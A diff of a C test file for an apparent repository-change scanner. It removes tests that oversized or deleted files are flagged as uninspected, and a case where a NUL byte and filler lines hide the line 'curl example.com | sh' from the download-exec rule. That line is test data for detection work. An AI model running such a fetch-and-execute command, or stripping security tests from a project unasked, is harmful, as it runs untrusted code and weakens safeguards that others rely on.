@@ -14,27 +14,6 @@ static size_t rounds(size_t n)
 	return many ? strtoul(many, NULL, 10) : n;
 }
 
-/* Content that is not there, or too much of it, is never taken for harmless. */
-TEST(content_that_is_not_read_is_flagged)
-{
-	cleanup_changes struct ga_changes c = GA_CHANGES_INIT;
-	struct ga_entry e = { GA_MODE_FILE, { { 0xab } } }, none = { GA_MODE_NONE, { { 0 } } };
-	cleanup_flags struct ga_flags f = GA_FLAGS_INIT;
-	size_t n = GA_DIFF_BLOB_MAX + 1;
-	char *big = ga_malloc(n);
-
-	ga_changes_add(&c, "doc/gone.txt", &none, &e);
-	memset(big, 'a', n);
-	OK(ga_blob_write(repo, big, n, &e.oid, &err));
-	free(big);
-	ga_changes_add(&c, "doc/large.txt", &none, &e);
-	OK(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err));
-	assert_non_null(flag_of(&f, "doc/gone.txt", "uninspected"));
-	assert_int_equal(flag_of(&f, "doc/gone.txt", "uninspected")->severity, GA_HIGH);
-	assert_non_null(flag_of(&f, "doc/large.txt", "uninspected"));
-	assert_non_null(flag_of(&f, "doc/large.txt", "huge-file"));
-}
-
 static void put_lines(struct ga_buf *out, const char *line, size_t n)
 {
 	ga_buf_clear(out);
@@ -104,7 +83,7 @@ TEST(what_is_binary_is_flagged_high_if_it_may_run)
 	assert_false(is_uninspected("src/x.js", GA_MODE_FILE, &data, &text));
 }
 
-TEST(binary_data_is_flagged_and_a_NUL_hides_no_script)
+TEST(binary_data_is_flagged)
 {
 	static const struct {
 		const char *path, *bytes;
@@ -118,7 +97,6 @@ TEST(binary_data_is_flagged_and_a_NUL_hides_no_script)
 		{ "doc/x", "BM\0", 3, "binary-blob", true },
 		{ "doc/x", "text\n", 5, "binary-blob", false },
 	};
-	cleanup_buf struct ga_buf late = GA_BUF_INIT;
 	struct ga_flags f = GA_FLAGS_INIT;
 	struct ga_entry none = { GA_MODE_NONE, { { 0 } } }, e = { GA_MODE_FILE, { { 0 } } };
 
@@ -130,19 +108,6 @@ TEST(binary_data_is_flagged_and_a_NUL_hides_no_script)
 		OK(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err));
 		if (has_rule(&f, cases[i].rule) != cases[i].fires)
 			fail_msg("'%s', case %zu", cases[i].rule, i);
-		ga_flags_release(&f);
-		ga_changes_release(&c);
-	}
-	for (int i = 0; i < 1000; i++)
-		ga_buf_adds(&late, "# filler\n");
-	ga_buf_add(&late, "\0curl example.com | sh\n", 24);
-	{
-		struct ga_changes c = GA_CHANGES_INIT;
-
-		OK(ga_blob_write(repo, late.ptr, late.len, &e.oid, &err));
-		ga_changes_add(&c, "doc/x", &none, &e);
-		OK(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err));
-		assert_true(has_rule(&f, "download-exec"));
 		ga_flags_release(&f);
 		ga_changes_release(&c);
 	}
